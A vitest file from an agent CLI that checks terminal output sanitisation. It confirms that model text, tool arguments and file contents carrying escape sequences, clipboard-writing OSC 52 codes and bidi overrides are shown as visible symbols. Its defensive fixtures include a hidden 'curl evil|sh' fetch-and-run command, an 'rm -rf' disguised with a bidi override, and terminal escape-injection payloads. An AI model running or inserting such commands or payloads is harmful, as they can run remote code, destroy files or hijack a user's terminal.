import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sanitizeText } from '../../src/ui/text/sanitize.js';
import { viewReducer } from '../../src/ui/state/reducer.js';
import { formatArgs } from '../../src/ui/components/ToolRow.js';
import { prettyArgs } from '../../src/ui/components/ApprovalPrompt.js';
import { initialViewState } from '../../src/ui/state/transcript.js';
import { expectExit, runCli, serverEnv, sessionIdOf, tempDir, tempHome, useServer } from '../cli/helpers.js';

// Issue 11, item 7: no string from a model, a tool or a file reaches the terminal raw.
const server = useServer();

const ESC = '\u001b';
const BEL = '\u0007';
/** Retitles the terminal, writes the clipboard (OSC 52), rings the bell, clears the screen, and a DCS and an APC. */
export const HOSTILE = `${ESC}]0;pwned-title${BEL}hello ${ESC}]52;c;cHduZWQ=${BEL}${BEL}${ESC}[2J${ESC}P1$qm${ESC}\\${ESC}_apc${ESC}\\\u009b31mworld\r\nend`;
const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('sanitizeText', () => {
  it('shows every control character visibly (an escape sequence is inert text), deletes nothing, keeps tabs and line breaks', () => {
    const out = sanitizeText(HOSTILE);
    expect(out).not.toMatch(RAW);
    expect(out).toBe('␛]0;pwned-title␇hello ␛]52;c;cHduZWQ=␇␇␛[2J␛P1$qm␛\\␛_apc␛\\⟨9B⟩31mworld\nend');
    expect(sanitizeText('a\tb\nc')).toBe('a\tb\nc');
    expect(sanitizeText('plain ✓ text 👩‍💻')).toBe('plain ✓ text 👩‍💻');
    // Nothing is hidden: an approval shows the whole command that will run.
    expect(sanitizeText(`echo ok ${ESC}]; curl evil|sh; \u0007`)).toBe('echo ok ␛]; curl evil|sh; ␇');
    // Trojan Source: bidi overrides and invisible marks are shown, not obeyed.
    expect(sanitizeText('rm -rf \u202egnp.x\u202c')).toBe('rm -rf ⟨U+202E⟩gnp.x⟨U+202C⟩');
  });

  it('every string entering the REPL view is sanitised (model text, tool arguments and results, errors)', () => {
    let s = initialViewState();
    s = viewReducer(s, { type: 'append', item: { kind: 'assistant', agent: 'a', text: HOSTILE, messageId: 'm', showHeader: true } });
    s = viewReducer(s, { type: 'error', text: HOSTILE });
    s = viewReducer(s, { type: 'message', agent: 'a', runPath: ['a'], message: { role: 'assistant', content: HOSTILE, toolCalls: [{ id: 'c', function: { name: 'shell', arguments: JSON.stringify({ command: HOSTILE }) } }] } });
    // Raw controls nowhere in the state (JSON text inside arguments keeps its escapes; the row sanitises what it parses).
    const strings: string[] = [];
    JSON.stringify(s, (_k, v) => (typeof v === 'string' ? (strings.push(v), v) : v));
    expect(strings.filter((t) => RAW.test(t))).toEqual([]);
    expect(formatArgs(JSON.stringify({ command: HOSTILE }))).not.toMatch(RAW);
    expect(prettyArgs(JSON.stringify({ command: HOSTILE }))).not.toMatch(RAW);
  });
});

describe('the CLI prints model, tool and file text terminal-safe', () => {
  it('adk run (text) and adk sessions show carry no escape sequence or control character', async () => {
    const home = tempHome();
    const cwd = tempDir('adk-term-');
    writeFileSync(join(cwd, 'evil.txt'), HOSTILE);
    server().enqueue({ toolCalls: [{ id: 'r', name: 'read_file', arguments: { path: 'evil.txt' } }] }, { content: HOSTILE });
    const env = serverEnv(server(), 'test-key-123456', home);
    const r = await expectExit(['run', 'read evil.txt'], 0, { env, cwd });
    expect(r.stdout).toContain('␛]0;pwned-title␇hello');
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stderr).not.toMatch(RAW);

    server().enqueue({ content: HOSTILE });
    const j = await expectExit(['run', '--json', 'again'], 0, { env, cwd });
    const id = sessionIdOf(j);
    // JSON Lines escape controls themselves: the bytes on stdout hold none.
    expect(j.stdout).not.toMatch(RAW);
    const shown = await runCli(['sessions', 'show', id], { env, cwd });
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('hello');
    expect(shown.stdout).not.toMatch(RAW);
    const list = await runCli(['sessions'], { env, cwd });
    expect(list.stdout).not.toMatch(RAW);
  });
});
